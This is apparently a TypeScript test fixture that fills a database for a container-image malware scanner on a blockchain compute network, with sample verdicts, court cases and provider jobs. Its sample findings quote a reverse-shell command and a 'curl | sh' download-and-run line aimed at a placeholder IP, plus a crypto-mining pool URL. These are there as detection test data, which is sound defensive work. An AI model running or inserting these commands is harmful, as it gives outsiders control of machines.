import { createHash } from 'node:crypto';
import { getAddress, keccak256, toHex } from 'viem';
import type { Finding } from '../../agent/model/finding.ts';
import type { ImageReport, Report, VerdictName } from '../../agent/model/report.ts';
import { metadataNames } from '../../agent/source/metadata-names.ts';
import {
  blocks,
  cases,
  cursor,
  events,
  leases,
  revisions,
  sources,
} from '../../agent/store/schema/chain-tables.ts';
import { intents } from '../../agent/store/schema/outbox-tables.ts';
import { reviewSpends } from '../../agent/store/schema/review-tables.ts';
import { documents, reports, scans, verdicts } from '../../agent/store/schema/scan-tables.ts';
import { workers } from '../../agent/store/schema/service-tables.ts';
import type { Database } from '../../agent/store/store.ts';
import {
  coverage,
  digest,
  finding,
  gap,
  imageReport,
  layerCoverage,
  location,
  report,
  reviewed,
} from '../report/sample-report.ts';

export const chainId = 31337;
export const ruleset = `sha256:${'9'.repeat(64)}`;
const ogpu = 10n ** 18n;

/** The same address for the same name, always. */
export function addressOf(name: string): string {
  return getAddress(keccak256(toHex(name)).slice(0, 42));
}

export function hashOf(name: string): `0x${string}` {
  return keccak256(toHex(name));
}

/** What a source calls itself; everything that a client or an image can choose. */
export interface Names {
  readonly name: string;
  readonly description: string;
  readonly metadataUrl: string;
  readonly path: string;
  readonly matched: string;
}

export interface Network {
  readonly now: number;
  readonly head: number;
  readonly sources: ReadonlyMap<string, { readonly address: string; readonly revision: string }>;
  readonly providers: readonly string[];
  readonly clients: readonly string[];
  readonly cases: ReadonlyMap<string, string>;
}

/** What jsonb can hold: no NUL, no half of a pair. */
function storable(text: string): string {
  return text.replaceAll('\0', '').replaceAll(/\p{Cs}/gu, '');
}

interface Published {
  readonly key: string;
  readonly client: string;
  readonly verdict: VerdictName | null;
  readonly block: number;
  readonly earlier?: number;
  readonly active?: boolean;
  readonly over?: Partial<Report>;
  readonly names: Names;
}

const secondsPerBlock = 12;

function named(name: string, description: string, over: Partial<Names> = {}): Names {
  const slug = name.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-');
  return {
    name,
    description,
    metadataUrl: `https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/${slug}.json`,
    path: 'opt/app/config.json',
    matched: 'stratum+tcp://pool.example:3333',
    ...over,
  };
}

/**
 * Fills a store with a network that could be one: sources of every verdict, cases in every phase, providers with a record.
 * @param hostile what names are, where they are to be hostile
 */
export async function seedNetwork(db: Database, hostile: Names | null = null): Promise<Network> {
  const now = Math.floor(Date.now() / 1000);
  const head = 1_204_332;
  const finalized = head - 64;
  const timeOf = (block: number) => now - (head - block) * secondsPerBlock;
  const clients = ['Northwind', 'Aurora Labs', 'Tessellate', 'Kite', 'Grey Harbor', 'Meridian'].map(
    addressOf,
  );
  const providers = ['Iceland 1', 'Iceland 2', 'Oregon', 'Osaka'].map((name) =>
    addressOf(`provider ${name}`),
  );
  const scanners = ['a', 'b', 'c', 'd', 'e'].map((name) => addressOf(`scanner ${name}`));
  let log = 0;
  const rows: (typeof events.$inferInsert)[] = [];
  const say = (block: number, name: string, args: Record<string, unknown>) => {
    rows.push({
      chainId,
      blockHash: hashOf(`block ${block}`),
      blockNumber: block,
      logIndex: log++,
      transactionHash: hashOf(`transaction ${block} ${log}`),
      address: addressOf(name.split('.')[0]!),
      name,
      args,
      state: block <= finalized ? 'final' : 'pending',
    });
  };

  clients.forEach((account, index) => {
    say(head - 90_000, 'vault.Locked', { account, amount: String(BigInt(500 + index * 1700) * ogpu) });
  });
  say(head - 30_000, 'vault.Unbonded', { account: clients[3], amount: String(400n * ogpu) });

  const published = sourcesOf(clients, head).map((each) => ({
    ...each,
    names: hostile === null ? each.names : { ...hostile, metadataUrl: storable(hostile.metadataUrl) },
  }));
  const known = new Map<string, { address: string; revision: string }>();
  for (const source of published) {
    const address = addressOf(`source ${source.key}`);
    const revision = hashOf(`revision ${source.key} 2`);
    known.set(source.key, { address, revision });
    const versions = [
      ...(source.earlier === undefined
        ? []
        : [{ revision: hashOf(`revision ${source.key} 1`), block: source.earlier, first: true }]),
      { revision, block: source.block, first: source.earlier === undefined },
    ];
    await db.insert(sources).values({
      chainId,
      address,
      client: source.client,
      active: source.active === false ? 0 : 1,
      revision,
      publishedAt: versions[0]!.block,
    });
    for (const version of versions) {
      await writeRevision(db, source, {
        ...version,
        address,
        state: version.block <= finalized ? 'final' : 'pending',
      });
      say(version.block, version.first ? 'nexus.SourcePublished' : 'nexus.SourceUpdated', {
        source: address,
      });
      const isPresent = version.revision === revision;
      const verdict = isPresent ? source.verdict : 'clear';
      if (verdict === null) {
        await db.insert(scans).values({
          id: `${chainId}|${address}|${version.revision}`,
          chainId,
          source: address,
          revision: version.revision,
          target: {},
          state: 'queued',
          attempts: 0,
          requestedAt: new Date(timeOf(version.block) * 1000),
        });
        continue;
      }
      await writeScan(db, source, {
        address,
        revision: version.revision,
        verdict,
        at: timeOf(version.block) + 40,
        isPresent,
      });
      if (verdict === 'clear')
        for (const scanner of scanners.slice(0, 3))
          say(version.block + 20, 'clearance.Attested', {
            uid: hashOf(`uid ${version.revision} ${scanner}`),
            source: address,
            revision: version.revision,
            scanner,
            report: hashOf(`report ${version.revision}`),
            artifact: hashOf(`artifact ${version.revision}`),
            ruleset: `0x${'9'.repeat(64)}`,
            expiresAt: String(isPresent ? now + 5 * 86_400 : now - 86_400),
          });
    }
  }

  const courtCases = seedCases(say, known, { clients, scanners, head, timeOf });
  for (const each of courtCases)
    await db.insert(cases).values({
      chainId,
      caseId: each.id,
      accused: each.accused,
      subject: each.subject,
      revision: each.revision,
      charge: each.charge,
      phase: each.settled === null ? 1 : 6,
      outcome: each.settled ?? 0,
      deadline: now + 86_400,
      updatedAt: each.block,
    });
  seedJobs(say, known, providers, head);
  for (let at = 0; at < rows.length; at += 200) await db.insert(events).values(rows.slice(at, at + 200));

  await db
    .insert(blocks)
    .values(
      [...new Set(rows.map(({ blockNumber }) => blockNumber)), head].map((number) => ({
        chainId,
        hash: hashOf(`block ${number}`),
        parentHash: hashOf(`block ${number - 1}`),
        number,
        time: timeOf(number),
        state: 'canonical' as const,
      })),
    )
    .onConflictDoNothing();
  await db
    .insert(cursor)
    .values({ chainId, number: head, hash: hashOf(`block ${head}`), finalized, version: 7, epoch: 3 });
  await seedOperations(db, now);
  return {
    now,
    head,
    sources: known,
    providers,
    clients,
    cases: new Map(courtCases.map(({ key, id }) => [key, id])),
  };
}

function sourcesOf(clients: readonly string[], head: number): Published[] {
  const [northwind, aurora, tessellate, kite, grey, meridian] = clients as [
    string,
    string,
    string,
    string,
    string,
    string,
  ];
  const inImage = { image: digest('e') };
  const clean: Partial<Report> = {
    findings: [
      finding({
        id: 'config/runs-as-root',
        title: 'Runs as root',
        severity: 'info',
        category: 'config',
        slashable: false,
        reachable: null,
        matches: [],
        matchCount: 0,
        locations: [],
        locationCount: 0,
        ...inImage,
      }),
    ],
    review: reviewed({
      explanation: 'A server for a diffusion model: it loads weights from the image and answers over HTTP.',
      claims: [],
      droppedClaims: 0,
    }),
  };
  return [
    {
      key: 'diffusion',
      client: northwind,
      verdict: 'clear',
      block: head - 4000,
      earlier: head - 52_000,
      over: clean,
      names: named('Stable Diffusion XL server', 'Images from text, on one GPU of 16 GB.'),
    },
    {
      key: 'whisper',
      client: northwind,
      verdict: 'clear',
      block: head - 9000,
      over: clean,
      names: named('Whisper large transcription', 'Speech to text in 99 languages.'),
    },
    {
      key: 'llama',
      client: aurora,
      verdict: 'clear',
      block: head - 700,
      over: clean,
      names: named('Llama 3 70B inference', 'Chat completions, tensor parallel.'),
    },
    {
      key: 'miner',
      client: grey,
      verdict: 'malicious',
      block: head - 1500,
      earlier: head - 21_000,
      over: { findings: minerFindings(), review: reviewed({ adverse: true }) },
      names: named('Render farm node', 'Blender rendering, cheap and fast.'),
    },
    {
      key: 'shell',
      client: meridian,
      verdict: 'malicious',
      block: head - 26_000,
      active: false,
      over: {
        findings: [
          finding({
            id: 'shell/reverse',
            title: 'Opens a shell to a host outside: whoever is there commands the machine',
            category: 'shell',
            attack: 'T1059.004',
            matches: [
              {
                pattern: '$dev',
                offset: 33,
                length: 26,
                line: 2,
                bytes: 'bash -i >& /dev/tcp/203.0.113.9/4444',
              },
            ],
            matchCount: 1,
            locations: [location({ path: 'entrypoint.sh' })],
          }),
        ],
      },
      names: named('Data labeling worker', 'Labels images in batches.'),
    },
    {
      key: 'broken',
      client: kite,
      verdict: 'malformed',
      block: head - 3100,
      names: named('Molecule docking', 'AutoDock on NVIDIA.'),
    },
    {
      key: 'packed',
      client: tessellate,
      verdict: 'suspicious',
      block: head - 2200,
      over: {
        findings: [
          finding({
            id: 'packer/upx',
            title: 'A packed program: what it does shows only when it runs',
            severity: 'medium',
            category: 'packer',
            slashable: false,
            attack: 'T1027.002',
            locations: [location({ layer: 1, layerDigest: digest('c'), path: 'usr/local/bin/encoder' })],
          }),
        ],
      },
      names: named('Video transcoding', 'AV1 and HEVC, with NVENC.'),
    },
    {
      key: 'encrypted',
      client: tessellate,
      verdict: 'incomplete',
      block: head - 1900,
      names: named('Protein folding', 'Folds one chain a task.'),
    },
    {
      key: 'fresh',
      client: aurora,
      verdict: null,
      block: head - 12,
      names: named('Mixtral fine-tuning', 'LoRA on your own data.'),
    },
    {
      key: 'embeddings',
      client: aurora,
      verdict: 'clear',
      block: head - 17_000,
      over: clean,
      names: named('Text embeddings', 'bge-m3 behind HTTP.'),
    },
  ];
}

function minerFindings(): Finding[] {
  return [
    finding({
      locations: [
        location({ layer: 1, layerDigest: digest('c'), path: 'usr/lib/blender/.cache/config.json' }),
      ],
    }),
    finding({
      id: 'miner/xmrig-binary',
      title: 'XMRig: it mines Monero on the provider’s hardware',
      severity: 'critical',
      locations: [
        location({ layer: 1, layerDigest: digest('c'), path: 'usr/lib/blender/.cache/blenderd' }),
        location({ layer: 2, layerDigest: digest('7'), path: 'opt/blenderd', presence: 'buried' }),
      ],
      locationCount: 2,
      matches: [{ pattern: '$donate', offset: 88_214, length: 22, bytes: 'donate-level: %d%% \\x00\\x00' }],
      matchCount: 1,
    }),
    finding({
      id: 'startup/downloads-and-runs',
      title: 'What runs first fetches a program and starts it',
      severity: 'high',
      category: 'dropper',
      slashable: false,
      confidence: 'medium',
      attack: 'T1105',
      locations: [location({ layer: 2, layerDigest: digest('7'), path: 'usr/bin/start.sh' })],
      matches: [
        { pattern: '$curl', offset: 120, length: 41, line: 9, bytes: 'curl -s http://203.0.113.9/b | sh' },
      ],
      matchCount: 1,
    }),
    finding({
      id: 'config/runs-as-root',
      title: 'Runs as root',
      severity: 'info',
      category: 'config',
      slashable: false,
      attack: 'T1611',
      reachable: null,
      matches: [],
      matchCount: 0,
      locations: [],
      locationCount: 0,
    }),
  ];
}

const reasons: Readonly<Record<VerdictName, readonly string[]>> = {
  clear: [],
  malicious: [
    'critical finding miner/xmrig-config is live and reachable: An XMRig configuration with a pool and a wallet',
    'high finding startup/downloads-and-runs at the level to hold at',
  ],
  malformed: ['the compose file for nvidia does not validate: services.dock.image is missing'],
  suspicious: ['medium finding packer/upx at the level to hold at'],
  incomplete: ['not all could be examined: 1 gap (encrypted)'],
};

async function writeRevision(
  db: Database,
  source: Published,
  {
    address,
    revision,
    block,
    first,
    state,
  }: { address: string; revision: string; block: number; first: boolean; state: 'final' | 'pending' },
): Promise<void> {
  await db.insert(revisions).values({
    chainId,
    source: address,
    revision,
    blockHash: hashOf(`block ${block}`),
    logIndex: first ? 1 : 2,
    blockNumber: block,
    state,
    params: {
      client: source.client,
      imageMetadataUrl:
        first && source.earlier !== undefined ? `${source.names.metadataUrl}?v=1` : source.names.metadataUrl,
      imageEnvironments: 3,
      minPayment: String(2n * ogpu),
      minAvailableLockup: String((first ? 50n : 100n) * ogpu),
      maxExpiryDuration: '86400',
      privacyEnabled: false,
      optionalParamsUrl: '',
      deliveryMethod: 0,
      lastUpdateTime: '1790000000',
    },
  });
}

async function writeScan(
  db: Database,
  source: Published,
  {
    address,
    revision,
    verdict,
    at,
    isPresent,
  }: { address: string; revision: string; verdict: VerdictName; at: number; isPresent: boolean },
): Promise<void> {
  const { names } = source;
  const metadata = Buffer.from(
    JSON.stringify({ name: names.name, description: names.description, cpu: 'https://…', revision }),
  );
  const metadataDigest = `sha256:${createHash('sha256').update(metadata).digest('hex')}` as const;
  await db.insert(documents).values({ sha256: metadataDigest, bytes: metadata }).onConflictDoNothing();
  const over = isPresent ? (source.over ?? {}) : {};
  const made = report({
    ...over,
    findings: (over.findings ?? []).map((each) => ({
      ...each,
      locations: each.locations.map((place) => ({
        ...place,
        path: names.path === 'opt/app/config.json' ? place.path : names.path,
      })),
      matches: each.matches.map((match) => ({
        ...match,
        bytes: names.matched === 'stratum+tcp://pool.example:3333' ? match.bytes : names.matched,
      })),
    })),
    verdict: {
      name: verdict,
      reasons:
        names.path === 'opt/app/config.json'
          ? reasons[verdict]
          : reasons[verdict].map((reason) => `${reason} ${names.path}`),
    },
    images: verdict === 'malformed' ? [] : [imageOf(verdict, names)],
    ruleset: { digest: ruleset, rules: 57, engine: { name: 'yara-x-native', version: '0.3.0' }, leftOut: [] },
    subject: {
      kind: 'source',
      target: address,
      reference: address,
      source: {
        chainId,
        address,
        revision,
        client: source.client,
        imageMetadataUrl: names.metadataUrl,
        imageEnvironments: 3,
      },
      files: [
        {
          kind: 'metadata',
          environments: [],
          name: names.metadataUrl,
          sha256: metadataDigest,
          size: metadata.length,
          cid: null,
        },
        {
          kind: 'compose',
          environments: ['cpu', 'nvidia'],
          name: `${names.metadataUrl}/compose.yml`,
          sha256: isPresent ? digest('4') : digest('5'),
          size: 812,
          cid: 'bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi',
        },
      ],
      images: [
        {
          indexDigest: null,
          manifestDigest: isPresent ? digest('e') : digest('6'),
          configDigest: digest('d'),
          platform: { os: 'linux', architecture: 'amd64' },
          layers: [],
          usedBy: [
            {
              environment: 'nvidia',
              service: 'worker',
              reference: `ghcr.io/example/${source.key}:1.4`,
              file: 'compose.yml',
              line: 4,
            },
          ],
        },
      ],
      artifact: digest('f'),
    },
  });
  const json = `${JSON.stringify(made, null, 2)}\n`;
  const sha256 = createHash('sha256').update(json).digest('hex');
  await db.insert(reports).values({ sha256, json }).onConflictDoNothing();
  const id = `${chainId}|${address}|${revision}`;
  const decidedAt = new Date(at * 1000);
  await db.insert(scans).values({
    id,
    chainId,
    source: address,
    revision,
    target: {},
    name: metadataNames(metadata).name,
    state: 'done',
    attempts: 0,
    verdict,
    report: sha256,
    scannedAt: at,
    requestedAt: decidedAt,
    decidedAt,
  });
  await db.insert(verdicts).values({
    scan: id,
    subject: digest('f'),
    policy: digest('1'),
    ruleset,
    engine: 'yara-x-native 0.3.0',
    verdict,
    report: sha256,
    decidedAt,
  });
}

function imageOf(verdict: VerdictName, names: Names): ImageReport {
  const layers = [
    layerCoverage(),
    layerCoverage({
      digest: digest('c'),
      compressedBytes: 812_331_004,
      streamBytes: 1_902_331_904,
      entries: 8123,
      files: 7011,
    }),
    layerCoverage({ digest: digest('7'), compressedBytes: 4120, streamBytes: 10_240, entries: 4, files: 3 }),
  ];
  const gaps =
    verdict === 'incomplete'
      ? [
          gap({
            state: 'unreadable',
            reason: 'encrypted',
            layer: 1,
            path: names.path,
            bytes: 402_653_184,
            detail: 'a layer that is encrypted',
          }),
        ]
      : [];
  const total = layers.reduce((sum, layer) => sum + layer.streamBytes, 0);
  const unreadable = gaps.length === 0 ? 0 : 402_653_184;
  const base = imageReport();
  return {
    ...base,
    facts: { ...base.facts, entrypoint: ['/usr/bin/start.sh'], command: ['--listen', '0.0.0.0:8080'] },
    coverage: coverage({
      layers,
      gaps,
      gapCount: gaps.length,
      entries: { total: 11_539, scanned: 9904 - gaps.length, withoutContent: 1635, unreadable: gaps.length },
      bytes: { total, scanned: total - 3_000_000 - unreadable, structure: 3_000_000, unreadable },
    }),
  };
}

type Say = (block: number, name: string, args: Record<string, unknown>) => void;

interface SeededCase {
  readonly key: string;
  readonly id: string;
  readonly accused: string;
  readonly subject: string;
  readonly revision: string;
  readonly charge: number;
  readonly settled: number | null;
  readonly block: number;
}

/** A case in each phase that events tell of. */
function seedCases(
  say: Say,
  known: ReadonlyMap<string, { address: string; revision: string }>,
  {
    clients,
    scanners,
    head,
    timeOf,
  }: {
    clients: readonly string[];
    scanners: readonly string[];
    head: number;
    timeOf: (block: number) => number;
  },
): SeededCase[] {
  const wei = (amount: number) => String(BigInt(Math.round(amount * 1000)) * 10n ** 15n);
  const stages = ['open', 'voting', 'ruled', 'arbiter', 'convicted', 'acquitted'] as const;
  const about = ['miner', 'packed', 'broken', 'encrypted', 'shell', 'whisper'];
  const accusedOf = [clients[4]!, clients[2]!, clients[3]!, clients[2]!, clients[5]!, clients[0]!];
  return stages.map((stage, index) => {
    const { address, revision } = known.get(about[index]!)!;
    const id = hashOf(`case ${stage}`);
    const start = stage === 'open' ? head - 900 : head - 18_000 + index * 300;
    const charge = about[index] === 'broken' ? 1 : 0;
    const accused = accusedOf[index]!;
    const step = (after: number, name: string, args: Record<string, unknown>) =>
      say(start + after, `court.${name}`, { id, ...args });
    const soon = (after: number) => String(timeOf(start + after) + 3 * 86_400);
    step(0, 'CaseOpened', {
      accused,
      subject: address,
      accuser: scanners[0],
      charge,
      revision,
      hold: wei(400),
      bond: wei(20),
      deadline: soon(0),
    });
    step(0, 'HoldPlaced', { account: accused, hold: wei(400), shortfall: '0' });
    for (const signer of scanners.slice(0, 3))
      step(0, 'FindingAccepted', { signer, report: hashOf(`report ${stage}`), slice: wei(1) });
    say(start, 'vault.Sanctioned', { account: accused, amount: wei(400) });
    let last = start;
    const beyond = stages.indexOf(stage);
    if (beyond >= 1) {
      step(200, 'Contested', { contestor: accused, bond: wei(20), deadline: soon(200) });
      scanners.slice(1).forEach((voter, n) => {
        step(300 + n, 'VoteCommitted', { voter, commitment: hashOf(`vote ${voter}`) });
      });
      last = start + 304;
    }
    if (beyond >= 2) {
      const innocents = stage === 'acquitted' ? 3 : 1;
      scanners.slice(1).forEach((voter, n) => {
        step(500 + n, 'VoteRevealed', { voter, guilty: n >= innocents });
      });
      step(600, 'Ruled', {
        outcome: stage === 'acquitted' ? 2 : 1,
        guilty: String(4 - innocents),
        innocent: String(innocents),
        eligible: '4',
        deadline: soon(600),
      });
      last = start + 600;
    }
    if (stage === 'arbiter') {
      step(700, 'Appealed', { appellant: accused, bond: wei(40), deadline: soon(700) });
      last = start + 700;
    }
    if (stage === 'convicted') {
      step(900, 'Taken', {
        account: accused,
        amount: wei(400),
        bounty: wei(80),
        panel: wei(40),
        victims: wei(160),
        burned: wei(120),
      });
      step(900, 'BondReturned', { account: scanners[0], amount: wei(20) });
      step(900, 'Settled', { outcome: 1 });
      last = start + 900;
    }
    if (stage === 'acquitted') {
      step(900, 'HoldReleased', { account: accused, amount: wei(400) });
      step(900, 'BondForfeited', {
        account: scanners[0],
        amount: wei(20),
        toAccused: wei(10),
        toPanel: wei(10),
        burned: '0',
      });
      step(900, 'Settled', { outcome: 2 });
      say(start + 900, 'vault.Waived', { account: accused, amount: wei(400) });
      last = start + 900;
    }
    const settled = stage === 'convicted' ? 1 : stage === 'acquitted' ? 2 : null;
    return { key: stage, id, accused, subject: address, revision, charge, settled, block: last };
  });
}

/** Work: the first provider nearly always answers, the last one often does not. */
function seedJobs(
  say: Say,
  known: ReadonlyMap<string, { address: string }>,
  providers: readonly string[],
  head: number,
): void {
  const keys = ['diffusion', 'whisper', 'llama', 'embeddings'];
  providers.forEach((provider, who) => {
    say(head - 80_000, 'terminal.ProviderAnnounced', { provider, master: addressOf('master Iceland') });
    say(head - 79_000, 'vault.Locked', { account: provider, amount: String(BigInt(200 * (who + 1)) * ogpu) });
    for (const key of keys)
      say(head - 78_000 + who, 'nexus.Registered', {
        provider,
        registrantId: String(who),
        source: known.get(key)!.address,
        preferredEnvironment: 2,
      });
    for (let n = 0; n < 48; n++) {
      const block = head - 40_000 + n * 810 + who * 7;
      const task = addressOf(`task ${who} ${n}`);
      const response = addressOf(`response ${who} ${n}`);
      say(block - 2, 'nexus.TaskPublished', { task, source: known.get(keys[n % keys.length]!)!.address });
      say(block, 'nexus.Attempted', {
        task,
        provider,
        suggestedPayment: String((2n + BigInt(n % 3)) * ogpu),
      });
      if (n % (12 - who * 3) === 2) {
        say(block + 600, 'nexus.TaskStatusChanged', { task, status: 4 });
        continue;
      }
      say(block + 3 + ((n * 7 + who) % 9), 'nexus.ResponseSubmitted', { response, task });
      if (n < 46) say(block + 30, 'nexus.ResponseStatusChanged', { response, status: 1 });
    }
  });
}

async function seedOperations(db: Database, now: number): Promise<void> {
  const at = (secondsAgo: number) => new Date((now - secondsAgo) * 1000);
  await db.insert(workers).values([
    {
      id: 'worker-1',
      host: 'scan-a',
      version: '0.1.0',
      ruleset,
      scan: null,
      draining: false,
      startedAt: at(86_400),
      seenAt: at(3),
    },
    {
      id: 'worker-2',
      host: 'scan-b',
      version: '0.1.0',
      ruleset,
      scan: 'scan_abcdefghijklmnopqrstuvwx',
      draining: false,
      startedAt: at(7200),
      seenAt: at(1),
    },
    {
      id: 'worker-3',
      host: 'scan-c',
      version: '0.0.9',
      ruleset: `sha256:${'8'.repeat(64)}`,
      scan: null,
      draining: true,
      startedAt: at(400_000),
      seenAt: at(4000),
    },
  ]);
  await db.insert(leases).values({ role: 'follow', holder: 'watch-1', epoch: 3, until: at(-20) });
  const intent = {
    chainId,
    to: addressOf('court'),
    data: '0x',
    value: '0',
    after: 0,
    detail: {},
    plannedAt: at(500),
    blockHash: null,
    sender: null,
    nonce: null,
  } as const;
  await db.insert(intents).values([
    { ...intent, key: 'one', why: 'open a case against Render farm node', state: 'final' },
    { ...intent, key: 'two', why: 'state that Llama 3 70B inference is clean', state: 'sent' },
    {
      ...intent,
      key: 'three',
      why: 'reveal the vote in a case',
      state: 'failed',
      error: 'the court refused it: TooEarly',
    },
  ]);
  await db.insert(reviewSpends).values(
    Array.from({ length: 5 }, (_, index) => ({
      id: crypto.randomUUID(),
      day: at(index * 86_400)
        .toISOString()
        .slice(0, 10),
      tenant: 'network',
      key: '',
      scan: 'any',
      microUsd: 21_300 + index * 7000,
      settledAt: at(index * 86_400),
    })),
  );
}
